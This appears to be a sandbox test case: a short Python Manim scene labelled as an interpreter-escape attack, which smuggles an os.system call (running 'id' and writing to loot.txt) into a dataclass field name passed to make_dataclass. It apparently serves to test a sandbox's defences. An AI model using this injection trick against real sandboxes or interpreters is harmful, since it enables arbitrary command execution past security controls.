# family: interpreter-escape
# layer: sandbox
# attack: inject code through a dataclass field name
from manim import *


class Attack(Scene):
    def construct(self):
        from dataclasses import make_dataclass
        make_dataclass("X", [("a=__import__('os').system('id>loot.txt')", int)])
        self.wait(0.1)
